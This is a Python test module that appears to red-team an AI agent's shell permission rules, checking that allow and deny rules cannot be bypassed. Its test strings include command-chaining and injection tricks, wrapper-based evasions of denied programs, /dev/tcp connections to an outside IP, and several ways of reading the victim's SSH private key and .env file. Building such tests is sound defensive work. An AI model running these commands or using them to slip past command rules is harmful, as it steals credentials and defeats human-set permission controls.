"""Effects of an approved shell command. The policy corpus covers which commands are approved."""

from __future__ import annotations

from tests.attacks.case import Case, breach, shell
from tests.attacks.victim import VictimHome, said_by


async def _compound(home: VictimHome) -> str | None:
    """A rule for one command does not cover further commands in the same text, in a headless session."""
    reached: list[str] = []
    async with home.kernel(
        name="ruled", rules=["allow bash git status", "allow bash echo *", "allow bash cat README.md"]
    ) as kernel:
        session = await kernel.session()
        if not (await session.call("bash", {"command": "git status"})).ok:
            return "the rule's own command does not run"
        for text in (
            "git status && echo $(cat .env)",
            "git status; touch compound",
            "git status | tee compound",
            "git status > compound",
            "git status & touch compound",
            "git status\ntouch compound",
            "git status\rtouch compound",
            "git${IFS}status; touch compound",
            "echo x `touch compound`",
            "echo ${x@P}",
            "echo x > /dev/tcp/93.184.216.34/80",
            "git -c core.fsmonitor='touch compound' status",
            "git -c alias.status='!touch compound' status",
            "cat README.md > compound",
            "cat README.md .env",
            "GIT_EXTERNAL_DIFF=./x git status",
            "git status -uno --ignored --porcelain=v2 -- $(touch compound)",
            "{git,status}; touch compound",
            "git status <<E\n$(touch compound)\nE",
            "; ".join(["git status"] * 60),
            "git status \u2066&& touch compound\u2069",
        ):
            result = await session.call("bash", {"command": text})
            if result.ok or (home.workspace / "compound").exists():
                reached.append(f"{text!r}: {said_by(result)[:80]!r}")
    (home.workspace / "compound").unlink(missing_ok=True)
    return breach(reached, "these ran on another command's rule")


async def _denied_anyhow(home: VictimHome) -> str | None:
    """A deny applies in whatever way its program is started, with all calls approved."""
    reached: list[str] = []
    async with home.kernel(name="denying", rules=["deny bash touch *"]) as kernel:
        from tests.attacks.victim import AgreeingUser

        session = await kernel.session(approval_handler=AgreeingUser())
        for text in (
            "touch denied", "/usr/bin/touch denied", "t''ouch denied", "\\touch denied", "env touch denied", "env X=1 touch denied",
            "timeout 5 touch denied", "nice touch denied", "xargs touch denied", "sh -c 'touch denied'", "bash -c \"touch denied\"",
            "eval touch denied", "command touch denied", "find . -maxdepth 0 -exec touch denied ';'", "(touch denied)",
            "true && touch denied", "if true; then touch denied; fi", "x=$(touch denied)", "touch denied &", "! touch denied",
        ):  # fmt: skip
            result = await session.call("bash", {"command": text})
            if (home.workspace / "denied").exists():
                reached.append(f"{text!r}: {said_by(result)[:80]!r}")
                (home.workspace / "denied").unlink()
    return breach(reached, "these ran although the program is denied")


async def _no_shell(home: VictimHome) -> str | None:
    """Text without shell syntax is not expanded: options and variables stay literal."""
    said = await home.shell("printf '%s|' '$HOME' '`id`' '*' '~' '-c'")
    return None if "$HOME|`id`|*|~|-c|" in said else said


CASES: list[Case] = [
    Case(
        "compound commands",
        "shell",
        "a compound rides on the allow rule of its first part",
        "each part needs its own",
        _compound,
    ),
    Case(
        "denied programs",
        "shell",
        "a denied program by another spelling, wrapper or construct",
        "denied",
        _denied_anyhow,
    ),
    Case(
        "quoted words",
        "shell",
        "a checker that takes quotes off and a shell that does not",
        "words stay words",
        _no_shell,
    ),
    shell(
        "/dev/tcp",
        "shell",
        "bash opens connections by itself, past every rule about programs",
        "there is no network to connect to",
        "(exec 3<>/dev/tcp/93.184.216.34/80) && echo REACHED; (exec 3<>/dev/udp/93.184.216.53/53 && echo x >&3) && echo REACHED",
    ),
    shell(
        "restricted by nothing but the sandbox",
        "shell",
        "find -exec, sed e, awk system, tar --checkpoint-action, xargs, git aliases: all run programs",
        "what they run is in the sandbox like them",
        "find /usr/bin/env -exec cat /home/victim/.ssh/id_ed25519 ';'; sed -n '1e cat /home/victim/.ssh/id_ed25519' README.md; "
        "awk 'BEGIN{system(\"cat /home/victim/.ssh/id_ed25519\")}'; echo /home/victim/.ssh/id_ed25519 | xargs cat; "
        "git -c alias.x='!cat /home/victim/.ssh/id_ed25519' x; git -c core.fsmonitor='cat /home/victim/.ssh/id_ed25519 >&2;' status",
        sign="TOP-SECRET",
    ),
]
